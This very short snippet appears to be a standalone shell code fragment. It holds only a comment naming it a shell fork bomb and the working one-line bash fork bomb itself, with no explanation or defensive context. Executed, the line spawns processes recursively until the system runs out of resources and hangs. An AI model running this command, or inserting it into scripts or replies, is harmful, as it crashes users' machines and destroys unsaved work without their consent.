# Shell fork bomb.
b() { b | b & }; b
